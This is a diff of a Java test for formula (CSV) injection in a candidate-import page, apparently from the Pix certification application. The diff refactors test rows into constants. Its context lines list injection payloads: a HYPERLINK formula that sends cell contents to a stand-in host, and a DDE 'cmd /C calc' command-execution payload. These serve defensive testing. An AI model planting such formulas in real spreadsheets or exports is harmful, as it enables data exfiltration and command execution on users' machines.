@@ -28,6 +28,18 @@ import org.w3c.dom.Element;
 @CertifTest
 class FormulaInjectionTest {
 
+    private static final List<String> HEADINGS = List.of(
+            "Nom de naissance",
+            "Prénom",
+            "Date de naissance",
+            "Sexe",
+            "Pays",
+            "Nom de la commune",
+            "Tarification part Pix");
+
+    private static final List<String> FORMULAS_OF_A_LINE =
+            List.of("=1+1", "@SUM(1)", "-2+3", "M", "=A1", "+1", "=TODAY()");
+
     private static final List<String> TYPED = List.of(
             "=HYPERLINK(\"http://exemple.net/?\"&A1;\"ouvrir\")",
             "+1+cmd|' /C calc'!A0",
@@ -110,10 +122,7 @@ class FormulaInjectionTest {
         var imported = "/sessions/" + session + "/candidats/import";
         browser.get(imported);
         list = browser.submit(
-                        imported,
-                        "pasted",
-                        "Nom de naissance\tPrénom\tDate de naissance\tSexe\tPays\tNom de la commune\tTarification part Pix\n"
-                                + "=1+1\t@SUM(1)\t-2+3\tM\t=A1\t+1\t=TODAY()\n")
+                        imported, "pasted", String.join("\t", HEADINGS) + "\n" + String.join("\t", FORMULAS_OF_A_LINE))
                 .leadsTo()
                 .replaceAll(".*liste=", "");
         assertThat(list).isNotEmpty();
